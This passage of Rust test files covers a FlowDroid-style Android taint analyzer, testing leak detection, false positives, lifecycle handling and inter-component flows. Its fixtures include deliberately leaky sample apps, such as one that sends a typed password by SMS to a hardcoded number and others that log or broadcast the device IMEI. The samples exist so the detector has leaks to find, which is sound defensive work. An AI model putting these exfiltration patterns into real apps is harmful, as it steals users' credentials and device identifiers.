    assert!(lines.contains(&17), "sink after the write must leak: {lines:?}");
}

#[test]
fn listing3_without_activation_is_flow_insensitive() {
    let config = InfoflowConfig::default().with_activation_statements(false);
    let (p, r) = analyze_with(&config, LISTING3, ("Main", "main"));
    let lines = sink_lines(&p, &r);
    assert!(
        lines.contains(&13),
        "the Andromeda-style ablation reports the early sink too: {lines:?}"
    );
    assert!(lines.contains(&17));
}

// ====================== misc semantics ======================

#[test]
fn arrays_are_index_insensitive() {
    // Storing tainted data at index 1 and leaking index 0 is a known
    // false positive (paper §6.1, ArrayAccess tests).
    let (_, r) = analyze(
        r#"
class Main {
  static method main() -> void {
    let a: java.lang.String[]
    let s: java.lang.String
    let t: java.lang.String
    a = newarray java.lang.String[2]
    s = staticinvoke <Env: java.lang.String source()>()
    a[1] = s
    t = a[0]
    staticinvoke <Env: void sink(java.lang.String)>(t)
    return
  }
}
"#,
        ("Main", "main"),
    );
    assert_eq!(r.leak_count(), 1, "conservative array handling reports this");
}

#[test]
fn no_strong_updates_on_heap() {
    // Overwriting a tainted field with a constant does not kill the
    // taint (paper §6.1: Button2 false positive).
    let (_, r) = analyze(
        r#"
class D { field f: java.lang.String }
class Main {
  static method main() -> void {
    let d: D
    let s: java.lang.String
    let t: java.lang.String
    d = new D
    s = staticinvoke <Env: java.lang.String source()>()
    d.f = s
    d.f = "clean"
    t = d.f
    staticinvoke <Env: void sink(java.lang.String)>(t)
    return
  }
}
"#,
        ("Main", "main"),
    );
    assert_eq!(r.leak_count(), 1, "no strong updates on the heap");
}

#[test]
fn string_concat_propagates_taint() {
    let (_, r) = analyze(
        r#"
class Main {
  static method main() -> void {
    let s: java.lang.String
    let t: java.lang.String
    s = staticinvoke <Env: java.lang.String source()>()
    t = s + "_suffix"
    staticinvoke <Env: void sink(java.lang.String)>(t)
    return
  }
}
"#,
        ("Main", "main"),
    );
    assert_eq!(r.leak_count(), 1);
}

#[test]
fn static_fields_flow_across_methods() {
    let (_, r) = analyze(
        r#"
class G { static field data: java.lang.String }
class Main {
  static method store() -> void {
    let s: java.lang.String
    s = staticinvoke <Env: java.lang.String source()>()
    static G.data = s
    return
  }
  static method main() -> void {
    staticinvoke <Main: void store()>()
    let t: java.lang.String
    t = static G.data
    staticinvoke <Env: void sink(java.lang.String)>(t)
    return
  }
}
"#,
        ("Main", "main"),
    );
    assert_eq!(r.leak_count(), 1, "{r:#?}");
}

#[test]
fn new_allocation_kills_taints() {
    let (_, r) = analyze(
        r#"
class D { field f: java.lang.String }
class Main {
  static method main() -> void {
    let d: D
    let s: java.lang.String
    let t: java.lang.String
    d = new D
    s = staticinvoke <Env: java.lang.String source()>()
    d.f = s
    d = new D
    t = d.f
    staticinvoke <Env: void sink(java.lang.String)>(t)
    return
  }
}
"#,
        ("Main", "main"),
    );
    assert!(r.is_clean(), "reallocation kills taints rooted at the local: {r:#?}");
}

#[test]
fn taint_through_collections_wrapper() {
    let (_, r) = analyze(
        r#"
class Main {
  static method main() -> void {
    let l: java.util.ArrayList
    let s: java.lang.String
    let o: java.lang.Object
    l = new java.util.ArrayList
    specialinvoke l.<java.util.ArrayList: void <init>()>()
    s = staticinvoke <Env: java.lang.String source()>()
    virtualinvoke l.<java.util.ArrayList: boolean add(java.lang.Object)>(s)
    o = virtualinvoke l.<java.util.ArrayList: java.lang.Object get(int)>(0)
    staticinvoke <Env: void sinkObj(java.lang.Object)>(o)
    return
  }
}
"#,
        ("Main", "main"),
    );
    assert_eq!(r.leak_count(), 1, "collection wrapper rules: {r:#?}");
}

#[test]
fn unreachable_code_is_not_analyzed() {
    let (_, r) = analyze(
        r#"
class Main {
  static method main() -> void {
    let s: java.lang.String
    s = staticinvoke <Env: java.lang.String source()>()
    goto end
  label dead:
    staticinvoke <Env: void sink(java.lang.String)>(s)
    goto end
  label end:
    return
  }
}
"#,
        ("Main", "main"),
    );
    assert!(r.is_clean(), "the sink is unreachable: {r:#?}");
}
