//! Reporting surface: the rendered leak report contains what a triage
//! engineer needs — sink signature and line, source attribution, the
//! tainted access path, and the propagation path (paper §5: "The
//! reports include full path information").

use flowdroid_core::{Infoflow, InfoflowConfig, SourceSinkManager, TaintWrapper};
use flowdroid_frontend::layout::ResourceTable;
use flowdroid_frontend::parse_jasm;
use flowdroid_ir::Program;

const CODE: &str = r#"
class Env {
  static native method source() -> java.lang.String
  static native method sink(s: java.lang.String) -> void
}
class R {
  static method relay(x: java.lang.String) -> java.lang.String {
    return x
  }
  static method main() -> void {
    let s: java.lang.String
    let t: java.lang.String
    s = staticinvoke <Env: java.lang.String source()>()
    t = staticinvoke <R: java.lang.String relay(java.lang.String)>(s)
    staticinvoke <Env: void sink(java.lang.String)>(t)
    return
  }
}
"#;

const DEFS: &str = "\
<Env: java.lang.String source()> -> _SOURCE_\n\
<Env: void sink(java.lang.String)> -> _SINK_\n";

fn run(config: &InfoflowConfig) -> (Program, flowdroid_core::InfoflowResults) {
    let mut p = Program::new();
    flowdroid_android::install_platform(&mut p);
    let rt = ResourceTable::new();
    parse_jasm(&mut p, &rt, CODE).unwrap();
    let sources = SourceSinkManager::parse(DEFS).unwrap();
    let wrapper = TaintWrapper::default_rules();
    let main = p.find_method("R", "main").unwrap();
    let r = Infoflow::new(&sources, &wrapper, config).run(&p, &[main]);
    (p, r)
}

#[test]
fn report_contains_everything_a_triage_needs() {
    let (p, r) = run(&InfoflowConfig::default());
    assert_eq!(r.leak_count(), 1);
    let text = r.report(&p);
    assert!(text.contains("1 leak(s) found"), "{text}");
    assert!(text.contains("sink <R: void main()>"), "{text}");
    assert!(text.contains("tainted: t"), "{text}");
    assert!(text.contains("source <R: void main()> (line 13)"), "{text}");
    assert!(text.contains("path ("), "{text}");
    // The leak's path passes through the relay call at line 14.
    let leak = &r.leaks[0];
    assert!(leak.path.len() >= 2, "multi-step path: {:?}", leak.path);
    assert_eq!(leak.source_line(&p), 13);
    assert_eq!(leak.sink_line(&p), 15);
}

#[test]
fn paths_can_be_disabled() {
    let mut config = InfoflowConfig::default();
    config.track_paths = false;
    let (p, r) = run(&config);
    assert_eq!(r.leak_count(), 1, "leak still found");
    let leak = &r.leaks[0];
    assert!(leak.path.is_empty(), "no path tracking requested");
    assert!(leak.source.is_none(), "attribution needs path tracking");
    let text = r.report(&p);
    assert!(text.contains("<unattributed>"), "{text}");
}

#[test]
fn stats_are_populated() {
    let (_, r) = run(&InfoflowConfig::default());
    assert!(r.forward_propagations > 0);
    assert_eq!(r.reachable_methods, 2, "main and relay");
    assert!(!r.aborted);
}
