//! End-to-end Android pipeline tests: the paper's Listing 1 LeakageApp
//! (password field → SMS, via lifecycle + XML callback), disabled
//! components, and lifecycle-dependent flows.

use flowdroid_android::install_platform;
use flowdroid_core::{Infoflow, InfoflowConfig, SourceSinkManager, TaintWrapper};
use flowdroid_frontend::App;
use flowdroid_ir::Program;

const MANIFEST: &str = r#"<manifest package="com.example">
  <application>
    <activity android:name=".LeakageApp">
      <intent-filter><action android:name="android.intent.action.MAIN"/></intent-filter>
    </activity>
  </application>
</manifest>"#;

const LAYOUT: &str = r#"<LinearLayout xmlns:android="http://schemas.android.com/apk/res/android">
  <EditText android:id="@+id/username"/>
  <EditText android:id="@+id/pwdString" android:inputType="textPassword"/>
  <Button android:id="@+id/button1" android:onClick="sendMessage"/>
</LinearLayout>"#;

/// The paper's Listing 1, re-authored in jasm. The app reads a password
/// into a `User` object in `onRestart` and sends it via SMS when the
/// (XML-declared) button handler fires.
const LEAKAGE_APP: &str = r#"
class com.example.User extends java.lang.Object {
  field name: java.lang.String
  field pwd: java.lang.String
  method <init>(n: java.lang.String, p: java.lang.String) -> void {
    this.name = n
    this.pwd = p
    return
  }
  method getName() -> java.lang.String {
    let n: java.lang.String
    n = this.name
    return n
  }
  method getPassword() -> java.lang.String {
    let p: java.lang.String
    p = this.pwd
    return p
  }
}
class com.example.LeakageApp extends android.app.Activity {
  field user: com.example.User
  method onCreate(b: android.os.Bundle) -> void {
    virtualinvoke this.<android.app.Activity: void setContentView(int)>(@layout/main)
    return
  }
  method onRestart() -> void {
    let ut: android.view.View
    let pt: android.view.View
    let uname: java.lang.String
    let pwd: java.lang.String
    let u: com.example.User
    ut = virtualinvoke this.<android.app.Activity: android.view.View findViewById(int)>(@id/username)
    pt = virtualinvoke this.<android.app.Activity: android.view.View findViewById(int)>(@id/pwdString)
    uname = virtualinvoke ut.<java.lang.Object: java.lang.String toString()>()
    pwd = virtualinvoke pt.<java.lang.Object: java.lang.String toString()>()
    if uname == null goto end
    u = new com.example.User
    specialinvoke u.<com.example.User: void <init>(java.lang.String,java.lang.String)>(uname, pwd)
    this.user = u
  label end:
    return
  }
  method sendMessage(v: android.view.View) -> void {
    let u: com.example.User
    let pwd: java.lang.String
    let nm: java.lang.String
    let msg: java.lang.String
    let sms: android.telephony.SmsManager
    u = this.user
    if u == null goto end
    pwd = virtualinvoke u.<com.example.User: java.lang.String getPassword()>()
    nm = virtualinvoke u.<com.example.User: java.lang.String getName()>()
    msg = nm + pwd
    sms = staticinvoke <android.telephony.SmsManager: android.telephony.SmsManager getDefault()>()
    virtualinvoke sms.<android.telephony.SmsManager: void sendTextMessage(java.lang.String,java.lang.String,java.lang.String,java.lang.Object,java.lang.Object)>("+44 020 7321 0905", null, msg, null, null)
  label end:
    return
  }
}
"#;

fn run_app(
    manifest: &str,
    layouts: &[(&str, &str)],
    code: &str,
    config: &InfoflowConfig,
) -> (Program, flowdroid_core::AppAnalysis) {
    let mut p = Program::new();
    let platform = install_platform(&mut p);
    let app = App::from_parts(&mut p, manifest, layouts, code).unwrap_or_else(|e| panic!("{e}"));
    let sources = SourceSinkManager::default_android();
    let wrapper = TaintWrapper::default_rules();
    let infoflow = Infoflow::new(&sources, &wrapper, config);
    let analysis = infoflow.analyze_app(&mut p, &platform, &app, "test");
    (p, analysis)
}

#[test]
fn listing1_leakage_app_password_to_sms() {
    let (p, analysis) = run_app(
        MANIFEST,
        &[("main", LAYOUT)],
        LEAKAGE_APP,
        &InfoflowConfig::default(),
    );
    let r = &analysis.results;
    assert_eq!(r.leak_count(), 1, "exactly the password leaks:\n{}", r.report(&p));
    let leak = &r.leaks[0];
    let sink_sig = p.signature(leak.sink.method);
    assert!(sink_sig.contains("sendMessage"), "sink is in sendMessage: {sink_sig}");
    // The source is the password-field lookup in onRestart.
    let src = leak.source.expect("source attributed");
    assert!(p.signature(src.method).contains("onRestart"));
}

#[test]
fn listing1_username_field_does_not_leak() {
    // Field sensitivity: user.name flows to the SMS too, but the
    // username EditText is not a password field, so only one leak (the
    // pwd) is reported — requiring the analysis to distinguish
    // user.name from user.pwd.
    let (p, analysis) = run_app(
        MANIFEST,
        &[("main", LAYOUT)],
        LEAKAGE_APP,
        &InfoflowConfig::default(),
    );
    assert_eq!(analysis.results.leak_count(), 1, "{}", analysis.results.report(&p));
}

#[test]
fn disabled_activity_is_not_analyzed() {
    let manifest = r#"<manifest package="com.example">
  <application>
    <activity android:name=".LeakageApp" android:enabled="false"/>
  </application>
</manifest>"#;
    let (_, analysis) = run_app(
        manifest,
        &[("main", LAYOUT)],
        LEAKAGE_APP,
        &InfoflowConfig::default(),
    );
    assert!(
        analysis.results.is_clean(),
        "a disabled component's lifecycle must not run (InactiveActivity)"
    );
    assert!(analysis.model.components.is_empty());
}

#[test]
fn location_callback_parameter_is_a_source() {
    // LocationLeak-style: the activity implements LocationListener and
    // stores the framework-passed location, leaking it in onPause.
    let manifest = r#"<manifest package="ll">
  <application><activity android:name=".A"/></application>
</manifest>"#;
    let code = r#"
class ll.A extends android.app.Activity implements android.location.LocationListener {
  field lat: java.lang.String
  method onCreate(b: android.os.Bundle) -> void {
    let lm: android.location.LocationManager
    let o: java.lang.Object
    o = virtualinvoke this.<android.app.Activity: java.lang.Object getSystemService(java.lang.String)>("location")
    lm = (android.location.LocationManager) o
    virtualinvoke lm.<android.location.LocationManager: void requestLocationUpdates(java.lang.String,long,float,android.location.LocationListener)>("gps", 0, 0, this)
    return
  }
  method onLocationChanged(loc: android.location.Location) -> void {
    let s: java.lang.String
    s = virtualinvoke loc.<java.lang.Object: java.lang.String toString()>()
    this.lat = s
    return
  }
  method onPause() -> void {
    let s: java.lang.String
    s = this.lat
    staticinvoke <android.util.Log: int d(java.lang.String,java.lang.String)>("TAG", s)
    return
  }
}
"#;
    let (p, analysis) = run_app(manifest, &[], code, &InfoflowConfig::default());
    assert_eq!(
        analysis.results.leak_count(),
        1,
        "location parameter source → log sink:\n{}",
        analysis.results.report(&p)
    );
}

#[test]
fn imei_to_log_is_found() {
    let manifest = r#"<manifest package="im">
  <application><activity android:name=".A"/></application>
</manifest>"#;
    let code = r#"
class im.A extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
    let o: java.lang.Object
    let tm: android.telephony.TelephonyManager
    let id: java.lang.String
    o = virtualinvoke this.<android.app.Activity: java.lang.Object getSystemService(java.lang.String)>("phone")
    tm = (android.telephony.TelephonyManager) o
    id = virtualinvoke tm.<android.telephony.TelephonyManager: java.lang.String getDeviceId()>()
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("TAG", id)
    return
  }
}
"#;
    let (p, analysis) = run_app(manifest, &[], code, &InfoflowConfig::default());
    assert_eq!(analysis.results.leak_count(), 1, "{}", analysis.results.report(&p));
}

#[test]
fn intent_sink_via_put_extra_and_broadcast() {
    // IntentSink2-style: tainted data into an intent, intent broadcast.
    let manifest = r#"<manifest package="is">
  <application><activity android:name=".A"/></application>
</manifest>"#;
    let code = r#"
class is.A extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
    let o: java.lang.Object
    let tm: android.telephony.TelephonyManager
    let id: java.lang.String
    let i: android.content.Intent
    o = virtualinvoke this.<android.app.Activity: java.lang.Object getSystemService(java.lang.String)>("phone")
    tm = (android.telephony.TelephonyManager) o
    id = virtualinvoke tm.<android.telephony.TelephonyManager: java.lang.String getDeviceId()>()
    i = new android.content.Intent
    specialinvoke i.<android.content.Intent: void <init>()>()
    virtualinvoke i.<android.content.Intent: android.content.Intent putExtra(java.lang.String,java.lang.String)>("imei", id)
    virtualinvoke this.<android.content.Context: void sendBroadcast(android.content.Intent)>(i)
    return
  }
}
"#;
    let (p, analysis) = run_app(manifest, &[], code, &InfoflowConfig::default());
    assert_eq!(analysis.results.leak_count(), 1, "{}", analysis.results.report(&p));
}

#[test]
fn set_result_is_not_a_sink() {
    // IntentSink1-style: the tainted intent is handed back via
    // setResult, which the paper's model does not treat as a sink — a
    // known miss.
    let manifest = r#"<manifest package="is1">
  <application><activity android:name=".A"/></application>
</manifest>"#;
    let code = r#"
class is1.A extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
    let o: java.lang.Object
    let tm: android.telephony.TelephonyManager
    let id: java.lang.String
    let i: android.content.Intent
    o = virtualinvoke this.<android.app.Activity: java.lang.Object getSystemService(java.lang.String)>("phone")
    tm = (android.telephony.TelephonyManager) o
    id = virtualinvoke tm.<android.telephony.TelephonyManager: java.lang.String getDeviceId()>()
    i = new android.content.Intent
    specialinvoke i.<android.content.Intent: void <init>()>()
    virtualinvoke i.<android.content.Intent: android.content.Intent putExtra(java.lang.String,java.lang.String)>("imei", id)
    virtualinvoke this.<android.app.Activity: void setResult(int,android.content.Intent)>(0, i)
    return
  }
}
"#;
    let (_, analysis) = run_app(manifest, &[], code, &InfoflowConfig::default());
    assert!(analysis.results.is_clean(), "setResult flows are a documented miss");
}

#[test]
fn static_initializer_runs_before_lifecycle() {
    // StaticInitialization1-style: at runtime the <clinit> would run
    // *after* onCreate writes the static field (first use), so the leak
    // is real; the model runs <clinit> first and misses it — the
    // paper's documented unsoundness.
    let manifest = r#"<manifest package="si">
  <application><activity android:name=".A"/></application>
</manifest>"#;
    let code = r#"
class si.A extends android.app.Activity {
  static field im: java.lang.String
  static method <clinit>() -> void {
    let s: java.lang.String
    s = static si.A.im
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("TAG", s)
    return
  }
  method onCreate(b: android.os.Bundle) -> void {
    let o: java.lang.Object
    let tm: android.telephony.TelephonyManager
    let id: java.lang.String
    o = virtualinvoke this.<android.app.Activity: java.lang.Object getSystemService(java.lang.String)>("phone")
    tm = (android.telephony.TelephonyManager) o
    id = virtualinvoke tm.<android.telephony.TelephonyManager: java.lang.String getDeviceId()>()
    static si.A.im = id
    return
  }
}
"#;
    let (_, analysis) = run_app(manifest, &[], code, &InfoflowConfig::default());
    assert!(
        analysis.results.is_clean(),
        "clinit-at-start ordering misses the leak (StaticInitialization1)"
    );
}
