//! Linked ICC analysis (the paper's EPICC future work): precision gain
//! over the shipped over-approximation without losing real
//! cross-component flows.

use flowdroid_android::install_platform;
use flowdroid_core::icc::analyze_app_linked;
use flowdroid_core::{Infoflow, InfoflowConfig, SourceSinkManager, TaintWrapper};
use flowdroid_frontend::App;
use flowdroid_ir::Program;

/// Two activities: the sender broadcasts the IMEI, the receiver logs
/// whatever arrives — a real two-hop flow.
const LINKED_APP: &str = r#"
class icc.Sender extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
    let o: java.lang.Object
    let tm: android.telephony.TelephonyManager
    let id: java.lang.String
    let i: android.content.Intent
    o = virtualinvoke this.<android.content.Context: java.lang.Object getSystemService(java.lang.String)>("phone")
    tm = (android.telephony.TelephonyManager) o
    id = virtualinvoke tm.<android.telephony.TelephonyManager: java.lang.String getDeviceId()>()
    i = new android.content.Intent
    specialinvoke i.<android.content.Intent: void <init>()>()
    virtualinvoke i.<android.content.Intent: android.content.Intent putExtra(java.lang.String,java.lang.String)>("x", id)
    virtualinvoke this.<android.content.Context: void sendBroadcast(android.content.Intent)>(i)
    return
  }
}
class icc.Receiver extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
    let i: android.content.Intent
    let s: java.lang.String
    i = virtualinvoke this.<android.app.Activity: android.content.Intent getIntent()>()
    s = virtualinvoke i.<android.content.Intent: java.lang.String getStringExtra(java.lang.String)>("x")
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", s)
    return
  }
}
"#;

/// Only the receiver half: nobody ever sends a tainted intent.
const RECEIVER_ONLY_APP: &str = r#"
class icc.Receiver extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
    let i: android.content.Intent
    let s: java.lang.String
    i = virtualinvoke this.<android.app.Activity: android.content.Intent getIntent()>()
    s = virtualinvoke i.<android.content.Intent: java.lang.String getStringExtra(java.lang.String)>("x")
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", s)
    return
  }
}
"#;

const MANIFEST_BOTH: &str = r#"<manifest package="icc">
  <application>
    <activity android:name=".Sender"/>
    <activity android:name=".Receiver"/>
  </application>
</manifest>"#;

const MANIFEST_RECEIVER: &str = r#"<manifest package="icc">
  <application>
    <activity android:name=".Receiver"/>
  </application>
</manifest>"#;

fn setup(manifest: &str, code: &str) -> (Program, flowdroid_android::PlatformInfo, App) {
    let mut p = Program::new();
    let platform = install_platform(&mut p);
    let app = App::from_parts(&mut p, manifest, &[], code).unwrap();
    (p, platform, app)
}

#[test]
fn linked_mode_skips_receivers_without_tainted_senders() {
    let (mut p, platform, app) = setup(MANIFEST_RECEIVER, RECEIVER_ONLY_APP);
    let sources = SourceSinkManager::default_android();
    let wrapper = TaintWrapper::default_rules();
    let config = InfoflowConfig::default();

    // Paper mode: getIntent is unconditionally a source → a warning.
    let paper = Infoflow::new(&sources, &wrapper, &config)
        .analyze_app(&mut p, &platform, &app, "paper");
    assert_eq!(paper.results.leak_count(), 1, "the shipped over-approximation warns");

    // Linked mode: no tainted send exists → clean.
    let (mut p2, platform2, app2) = setup(MANIFEST_RECEIVER, RECEIVER_ONLY_APP);
    let linked =
        analyze_app_linked(&mut p2, &platform2, &app2, &sources, &wrapper, &config, "lk");
    assert!(!linked.tainted_send_exists);
    assert_eq!(linked.leak_count(), 0, "no sender, no warning: {linked:#?}");
}

#[test]
fn linked_mode_connects_real_cross_component_flows() {
    let (mut p, platform, app) = setup(MANIFEST_BOTH, LINKED_APP);
    let sources = SourceSinkManager::default_android();
    let wrapper = TaintWrapper::default_rules();
    let config = InfoflowConfig::default();
    let linked = analyze_app_linked(&mut p, &platform, &app, &sources, &wrapper, &config, "lk2");
    assert!(linked.tainted_send_exists, "the sender's broadcast is tainted");
    // Direct: the tainted send itself (sink at sendBroadcast).
    assert_eq!(linked.direct.leak_count(), 1, "{:#?}", linked.direct);
    // Linked: the receiver-side log of the received payload.
    assert_eq!(linked.icc_linked.len(), 1, "{:#?}", linked.icc_linked);
    let icc_leak = &linked.icc_linked[0];
    assert!(
        p.signature(icc_leak.sink.method).contains("Receiver"),
        "the linked leak is in the receiver"
    );
}

#[test]
fn clone_without_strips_only_the_given_entries() {
    let sources = SourceSinkManager::default_android();
    let stripped = sources.clone_without(
        "<android.app.Activity: android.content.Intent getIntent()> -> _SOURCE_\n",
    );
    assert_eq!(stripped.len(), sources.len() - 1);
    // Stripping something unknown changes nothing.
    let same = sources.clone_without("<no.Such: void thing()> -> _SINK_\n");
    assert_eq!(same.len(), sources.len());
}
