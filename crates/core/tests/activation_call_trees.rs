//! Activation statements as representatives of call trees (paper §4.2:
//! "activation statements are used for looking up the call trees in
//! which they occur to translate them back into (transitive) callers"),
//! plus CHA-vs-RTA call-graph precision.

use flowdroid_callgraph::CgAlgorithm;
use flowdroid_core::{Infoflow, InfoflowConfig, InfoflowResults, SourceSinkManager, TaintWrapper};
use flowdroid_frontend::layout::ResourceTable;
use flowdroid_frontend::parse_jasm;
use flowdroid_ir::Program;

const ENV: &str = r#"
class Env {
  static native method source() -> java.lang.String
  static native method sink(s: java.lang.String) -> void
}
"#;

const DEFS: &str = "\
<Env: java.lang.String source()> -> _SOURCE_\n\
<Env: void sink(java.lang.String)> -> _SINK_\n";

fn analyze_with(config: &InfoflowConfig, body: &str) -> (Program, InfoflowResults) {
    let mut p = Program::new();
    flowdroid_android::install_platform(&mut p);
    let rt = ResourceTable::new();
    parse_jasm(&mut p, &rt, ENV).unwrap();
    parse_jasm(&mut p, &rt, body).unwrap_or_else(|e| panic!("{e}"));
    let sources = SourceSinkManager::parse(DEFS).unwrap();
    let wrapper = TaintWrapper::default_rules();
    let main = p.find_method("Main", "main").unwrap();
    let r = Infoflow::new(&sources, &wrapper, config).run(&p, &[main]);
    (p, r)
}

fn sink_lines(p: &Program, r: &InfoflowResults) -> Vec<u32> {
    let mut v: Vec<u32> = r.leaks.iter().map(|l| l.sink_line(p)).collect();
    v.sort_unstable();
    v.dedup();
    v
}

/// The heap write that activates the alias lives two calls deep; the
/// alias taint in `main` must stay inactive at the first sink and
/// activate when crossing the call whose tree contains the write.
#[test]
fn activation_translates_through_call_trees() {
    let code = r#"
class Data { field f: java.lang.String }
class Main {
  static method store(x: Data, v: java.lang.String) -> void {
    x.f = v
    return
  }
  static method indirect(q: Data) -> void {
    let s: java.lang.String
    s = staticinvoke <Env: java.lang.String source()>()
    staticinvoke <Main: void store(Data,java.lang.String)>(q, s)
    return
  }
  static method main() -> void {
    let p: Data
    let p2: Data
    let t: java.lang.String
    let u: java.lang.String
    p = new Data
    p2 = p
    t = p2.f
    staticinvoke <Env: void sink(java.lang.String)>(t)
    staticinvoke <Main: void indirect(Data)>(p)
    u = p2.f
    staticinvoke <Env: void sink(java.lang.String)>(u)
    return
  }
}
"#;
    let (p, r) = analyze_with(&InfoflowConfig::default(), code);
    let lines = sink_lines(&p, &r);
    assert!(
        !lines.contains(&22),
        "sink before the (transitive) write stays clean: {lines:?}\n{r:#?}"
    );
    assert!(lines.contains(&25), "sink after the call tree leaks: {lines:?}");
}

/// Same program without activation statements: the early sink
/// false-alarms (Andromeda-style flow-insensitivity).
#[test]
fn call_tree_case_needs_activation_statements() {
    let code = r#"
class Data { field f: java.lang.String }
class Main {
  static method store(x: Data, v: java.lang.String) -> void {
    x.f = v
    return
  }
  static method indirect(q: Data) -> void {
    let s: java.lang.String
    s = staticinvoke <Env: java.lang.String source()>()
    staticinvoke <Main: void store(Data,java.lang.String)>(q, s)
    return
  }
  static method main() -> void {
    let p: Data
    let p2: Data
    let t: java.lang.String
    let u: java.lang.String
    p = new Data
    p2 = p
    t = p2.f
    staticinvoke <Env: void sink(java.lang.String)>(t)
    staticinvoke <Main: void indirect(Data)>(p)
    u = p2.f
    staticinvoke <Env: void sink(java.lang.String)>(u)
    return
  }
}
"#;
    let config = InfoflowConfig::default().with_activation_statements(false);
    let (p, r) = analyze_with(&config, code);
    let lines = sink_lines(&p, &r);
    assert!(lines.contains(&22), "without activation the early sink reports: {lines:?}");
}

/// CHA dispatches a virtual call to every override; RTA prunes classes
/// that are never instantiated — removing a false positive when only
/// the clean implementation is allocated.
#[test]
fn rta_prunes_uninstantiated_tainted_override() {
    let code = r#"
class Base {
  method <init>() -> void { return }
  method get() -> java.lang.String {
    return "base"
  }
}
class Dirty extends Base {
  method <init>() -> void { return }
  method get() -> java.lang.String {
    let s: java.lang.String
    s = staticinvoke <Env: java.lang.String source()>()
    return s
  }
}
class Clean extends Base {
  method <init>() -> void { return }
  method get() -> java.lang.String {
    return "clean"
  }
}
class Main {
  static method main() -> void {
    let b: Base
    let v: java.lang.String
    b = new Clean
    specialinvoke b.<Clean: void <init>()>()
    v = virtualinvoke b.<Base: java.lang.String get()>()
    staticinvoke <Env: void sink(java.lang.String)>(v)
    return
  }
}
"#;
    // CHA: Dirty::get is a possible target → false positive.
    let cha = InfoflowConfig::default();
    let (_, r_cha) = analyze_with(&cha, code);
    assert_eq!(r_cha.leak_count(), 1, "CHA over-approximates dispatch");

    // RTA: Dirty is never instantiated → no leak.
    let rta = InfoflowConfig { cg_algorithm: CgAlgorithm::Rta, ..InfoflowConfig::default() };
    let (_, r_rta) = analyze_with(&rta, code);
    assert!(r_rta.is_clean(), "RTA prunes the uninstantiated override: {r_rta:#?}");
}

/// Two apps loaded into one program analyze independently (unique
/// dummy-main tags).
#[test]
fn two_apps_share_one_program() {
    use flowdroid_frontend::App;
    let mut p = Program::new();
    let platform = flowdroid_android::install_platform(&mut p);
    let leaky = App::from_parts(
        &mut p,
        r#"<manifest package="a1"><application><activity android:name=".M"/></application></manifest>"#,
        &[],
        r#"
class a1.M extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
    let o: java.lang.Object
    let tm: android.telephony.TelephonyManager
    let id: java.lang.String
    o = virtualinvoke this.<android.content.Context: java.lang.Object getSystemService(java.lang.String)>("phone")
    tm = (android.telephony.TelephonyManager) o
    id = virtualinvoke tm.<android.telephony.TelephonyManager: java.lang.String getDeviceId()>()
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", id)
    return
  }
}
"#,
    )
    .unwrap();
    let clean = App::from_parts(
        &mut p,
        r#"<manifest package="a2"><application><activity android:name=".M"/></application></manifest>"#,
        &[],
        r#"
class a2.M extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", "const")
    return
  }
}
"#,
    )
    .unwrap();
    let sources = SourceSinkManager::default_android();
    let wrapper = TaintWrapper::default_rules();
    let config = InfoflowConfig::default();
    let infoflow = Infoflow::new(&sources, &wrapper, &config);
    let r1 = infoflow.analyze_app(&mut p, &platform, &leaky, "app1");
    let r2 = infoflow.analyze_app(&mut p, &platform, &clean, "app2");
    assert_eq!(r1.results.leak_count(), 1);
    assert!(r2.results.is_clean());
}
