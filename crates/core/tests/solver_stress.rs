//! Stress tests: adversarial control flow and heap shapes that have to
//! terminate (bounded access paths + IFDS dedup) and still classify
//! flows correctly.

use flowdroid_core::{Infoflow, InfoflowConfig, InfoflowResults, SourceSinkManager, TaintWrapper};
use flowdroid_frontend::layout::ResourceTable;
use flowdroid_frontend::parse_jasm;
use flowdroid_ir::Program;

const ENV: &str = r#"
class Env {
  static native method source() -> java.lang.String
  static native method sink(s: java.lang.String) -> void
}
"#;

const DEFS: &str = "\
<Env: java.lang.String source()> -> _SOURCE_\n\
<Env: void sink(java.lang.String)> -> _SINK_\n";

fn analyze(body: &str) -> InfoflowResults {
    let mut p = Program::new();
    flowdroid_android::install_platform(&mut p);
    let rt = ResourceTable::new();
    parse_jasm(&mut p, &rt, ENV).unwrap();
    parse_jasm(&mut p, &rt, body).unwrap_or_else(|e| panic!("{e}"));
    let sources = SourceSinkManager::parse(DEFS).unwrap();
    let wrapper = TaintWrapper::default_rules();
    let config = InfoflowConfig::default();
    let main = p.find_method("S", "main").unwrap();
    Infoflow::new(&sources, &wrapper, &config).run(&p, &[main])
}

#[test]
fn heap_write_inside_loop_terminates_and_reports() {
    // The alias query fires on every loop iteration; dedup must bound
    // the work.
    let r = analyze(
        r#"
class Node { field val: java.lang.String  field next: Node }
class S {
  static method main() -> void {
    let n: Node
    let m: Node
    let s: java.lang.String
    let t: java.lang.String
    let i: int
    n = new Node
    m = n
    s = staticinvoke <Env: java.lang.String source()>()
    i = 0
  label top:
    if i >= 10 goto done
    n.val = s
    i = i + 1
    goto top
  label done:
    t = m.val
    staticinvoke <Env: void sink(java.lang.String)>(t)
    return
  }
}
"#,
    );
    assert_eq!(r.leak_count(), 1, "{r:#?}");
}

#[test]
fn cyclic_list_walk_hits_access_path_bound() {
    // A self-referential structure forces access-path truncation; the
    // truncated (over-approximate) taint still reaches the sink.
    let r = analyze(
        r#"
class Node { field val: java.lang.String  field next: Node }
class S {
  static method main() -> void {
    let n: Node
    let c: Node
    let s: java.lang.String
    let t: java.lang.String
    let i: int
    n = new Node
    n.next = n
    s = staticinvoke <Env: java.lang.String source()>()
    n.val = s
    c = n
    i = 0
  label top:
    if i >= 8 goto done
    c = c.next
    i = i + 1
    goto top
  label done:
    t = c.val
